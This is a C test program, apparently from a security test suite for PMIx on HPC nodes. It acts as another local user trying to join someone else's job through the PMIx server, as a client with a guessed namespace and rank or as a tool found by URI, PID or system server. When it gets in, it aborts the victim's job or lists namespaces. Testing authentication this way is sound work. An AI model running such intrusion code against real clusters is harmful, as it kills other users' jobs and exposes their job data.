/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Another user of the node trying to join a job through its PMIx server
 * (pmix-strangers.sh), with libpmix's own client and tool calls:
 *
 *   client NSPACE RANK URI   PMIx_Init as rank RANK of NSPACE, the server
 *                            at URI (its TCP port)
 *   tool URI                 PMIx_tool_init with an identity of its own
 *   tool-pid PID DIR         PMIx_tool_init finding the server of process
 *                            PID by its rendezvous files in DIR
 *   tool-system              PMIx_tool_init to the node's system server
 *
 * It prints "JOINED" when it got in (then aborts the job it joined, with
 * status 42, as an attacker could), else "REFUSED" and libpmix's status.
 * Run under a forged uid (pmix-fakeuid.c) it claims to be that user.
 */
#include <pmix.h>
#include <pmix_tool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int client(const char *nspace, const char *rank, const char *uri)
{
    static const char *const uri_vars[] = {
        "PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3",
        "PMIX_SERVER_URI21", "PMIX_SERVER_URI2",
    };
    pmix_proc_t me;

    setenv("PMIX_NAMESPACE", nspace, 1);
    setenv("PMIX_RANK", rank, 1);
    for (size_t i = 0; i < sizeof(uri_vars) / sizeof(uri_vars[0]); i++)
        setenv(uri_vars[i], uri, 1);
    setenv("PMIX_SECURITY_MODE", "native", 1);
    setenv("PMIX_GDS_MODULE", "hash", 1);
    setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
    pmix_status_t rc = PMIx_Init(&me, NULL, 0);
    if (rc != PMIX_SUCCESS) {
        printf("REFUSED %s\n", PMIx_Error_string(rc));
        return 1;
    }
    printf("JOINED as %s rank %u\n", me.nspace, me.rank);
    fflush(stdout);
    PMIx_Abort(42, "an intruder", NULL, 0);
    PMIx_Finalize(NULL, 0);
    return 0;
}

static int tool(pmix_info_t *info, size_t ninfo)
{
    pmix_proc_t me;
    pmix_status_t rc = PMIx_tool_init(&me, info, ninfo);

    if (rc != PMIX_SUCCESS) {
        printf("REFUSED %s\n", PMIx_Error_string(rc));
        return 1;
    }
    /* Initialized is not connected: ask the server something. */
    pmix_query_t query;
    pmix_info_t *results = NULL;
    size_t nresults = 0;
    PMIX_QUERY_CONSTRUCT(&query);
    PMIX_ARGV_APPEND(rc, query.keys, PMIX_QUERY_NAMESPACES);
    rc = PMIx_Query_info(&query, 1, &results, &nresults);
    if (rc == PMIX_SUCCESS) {
        printf("JOINED as a tool: %zu answers\n", nresults);
        for (size_t i = 0; i < nresults; i++)
            if (results[i].value.type == PMIX_STRING)
                printf("  %s=%s\n", results[i].key,
                       results[i].value.data.string);
    } else {
        printf("REFUSED %s\n", PMIx_Error_string(rc));
    }
    PMIx_tool_finalize();
    return rc == PMIX_SUCCESS ? 0 : 1;
}

int main(int argc, char **argv)
{
    pmix_info_t info[4];
    size_t n = 0;
    bool yes = true;
    pmix_rank_t zero = 0;

    if (argc == 5 && strcmp(argv[1], "client") == 0)
        return client(argv[2], argv[3], argv[4]);
    for (size_t i = 0; i < 4; i++)
        PMIX_INFO_CONSTRUCT(&info[i]);
    if (argc == 3 && strcmp(argv[1], "tool") == 0) {
        PMIX_INFO_LOAD(&info[n], PMIX_SERVER_URI, argv[2], PMIX_STRING), n++;
        PMIX_INFO_LOAD(&info[n], PMIX_TOOL_NSPACE, "intruder", PMIX_STRING), n++;
        PMIX_INFO_LOAD(&info[n], PMIX_TOOL_RANK, &zero, PMIX_PROC_RANK), n++;
    } else if (argc == 4 && strcmp(argv[1], "tool-pid") == 0) {
        pid_t pid = (pid_t)atoi(argv[2]);
        PMIX_INFO_LOAD(&info[n], PMIX_SERVER_PIDINFO, &pid, PMIX_PID), n++;
        PMIX_INFO_LOAD(&info[n], PMIX_SERVER_TMPDIR, argv[3], PMIX_STRING), n++;
    } else if (argc == 2 && strcmp(argv[1], "tool-system") == 0) {
        PMIX_INFO_LOAD(&info[n], PMIX_CONNECT_TO_SYSTEM, &yes, PMIX_BOOL), n++;
    } else {
        fprintf(stderr, "usage: %s client NSPACE RANK URI | tool URI | "
                "tool-pid PID DIR | tool-system\n", argv[0]);
        return 2;
    }
    return tool(info, n);
}
